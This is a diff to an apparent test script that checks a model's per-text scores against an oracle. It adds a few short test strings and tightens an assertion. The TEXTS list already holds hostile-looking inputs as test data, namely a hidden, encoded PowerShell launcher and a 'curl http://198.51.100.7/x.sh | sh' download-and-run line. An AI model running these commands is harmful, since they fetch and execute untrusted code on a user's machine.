@@ -29,7 +29,9 @@ TEXTS = ["a", "hello world", "powershell /w hidden /enc SQBFAFgAIAAoAE4AZQB3AC0A
          "The quick brown fox jumps over the lazy dog", "b10a8db164e0754105b7a99be72e3fe5",
          "TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAA", "v=spf1 ~all", "MS=ms52917034",
          "k=v1;token=0123456789abcdef", "curl http://198.51.100.7/x.sh | sh",
-         "v=spf1 include:_spf.example.com ip4:192.0.2.0/24 ~all"]
+         "v=spf1 include:_spf.example.com ip4:192.0.2.0/24 ~all",
+         # Short ones, which no model latches on.
+         "ab", "x7", "zz zz", "iex"]
 SHARP = 0.002
 BOUND = 0.03
 CHUNK = 128
@@ -128,8 +130,7 @@ def main():
               f"{worst:.2g}, of the oracle's sum {off:.2g}")
         assert worst <= max(1e-3, BOUND * difference), f"text {number}: off by {worst}"
         compared += 1
-    # How many depends on how sharply a model latches; with none the test would say nothing.
-    assert compared >= 2, f"only {compared} texts compared"
+    assert compared >= 5, f"only {compared} texts compared"
     print(f"{compared} of {len(TEXTS)} texts compared, all add up")
 
 
